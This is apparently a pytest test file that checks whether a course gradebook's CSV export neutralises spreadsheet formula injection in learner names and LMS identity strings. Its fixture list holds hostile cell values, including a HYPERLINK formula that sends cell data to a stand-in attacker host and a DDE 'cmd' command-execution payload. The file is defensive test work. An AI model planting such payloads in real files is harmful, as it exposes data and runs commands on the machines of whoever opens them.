"""The gradebook CSV never hands a spreadsheet a formula (OWASP CSV injection), over real HTTP, from the API
(`?format=csv`) and the staff page (`gradebook.csv`): a learner's display name `=HYPERLINK(...)`, an LMS's
subject or issuer starting with `@`, `+`, `-`, a tab or a CR (or a full-width ＝ ＋ － ＠, which spreadsheets
with East Asian input read as the ASCII ones) reaches its cell as text behind a single
quote, and numbers stay numbers."""
from __future__ import annotations

import csv
import io
import re

import httpx
import pytest

from service.grades.sheet import guard_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
           "\tleading-tab", "\rleading-cr", '＝HYPERLINK("http://evil.example/","open")', "＋1＋2", "－2", "＠SUM(1)"]
CSRF = re.compile(r'name="csrf" value="([^"]+)"')


@pytest.fixture(scope="module")
def hostile_rows(live_api):
    from service.auth.service import get_or_create_identity, set_membership
    from service.db import transaction, utcnow
    from service.submissions.models import Submission

    with transaction(live_api.app.state.sessions) as s:
        for i, text in enumerate(HOSTILE):
            # display name, subject and issuer all hostile: a learner's own name and an LMS's strings
            identity = get_or_create_identity(s, issuer=text, subject=text, name=text)
            set_membership(s, identity=identity, course="csv", role="learner")
            s.add(Submission(id=f"csv{i:029d}", identity_id=identity.id, user=text, course="csv",
                             exercise_id="ch05.svc_sum", lang="en", attempt=1, notebook=b"{}", status="graded",
                             score=2.5, max_score=3.0, message="", graded_at=utcnow()))
    return HOSTILE


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _check(rows: list[dict], raw: str) -> None:
    assert len(rows) == len(HOSTILE) * 4  # every learner x the test catalogue's 4 exercises (missing ones too)
    for row in rows:
        for column in ("user", "issuer", "subject"):
            assert row[column].startswith("'") and row[column][1:] in HOSTILE, (column, row[column])
        if row["exercise_id"] == "ch05.svc_sum":  # numbers as numbers
            assert row["score"] == "2.5" and row["max_score"] == "3.0" and row["attempts"] == "1"
    assert not re.search(r'(^|,)"?[=+\-@＝＋－＠]', raw, re.M)  # no cell of the sheet starts like a formula


def test_api_csv_guards_every_learner_and_lms_string(live_api, hostile_rows):
    resp = httpx.get(f"{live_api.url}/api/v1/courses/csv/gradebook", params={"format": "csv"},
                     headers={"Authorization": f"Bearer {live_api.tokens['root']}"}, timeout=30)
    assert resp.status_code == 200, resp.text
    _check(_cells(resp.text), resp.text)


def test_the_staff_pages_csv_guards_them_too(live_api, hostile_rows):
    client = httpx.Client(base_url=live_api.url, timeout=30)
    page = client.get("/login")
    client.post("/login", data={"token": live_api.tokens["root"], "csrf": CSRF.search(page.text).group(1)})
    resp = client.get("/teach/courses/csv/gradebook.csv")
    assert resp.status_code == 200, resp.text
    _check(_cells(resp.text), resp.text)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("＝1＋1", "'＝1＋1"), ("＠A1", "'＠A1"),
    ("alice", "alice"), ("a=b", "a=b"), ("", ""), (-1.5, -1.5), (3, 3), (None, None),
])
def test_guard_cell(value, expected):
    assert guard_cell(value) == expected
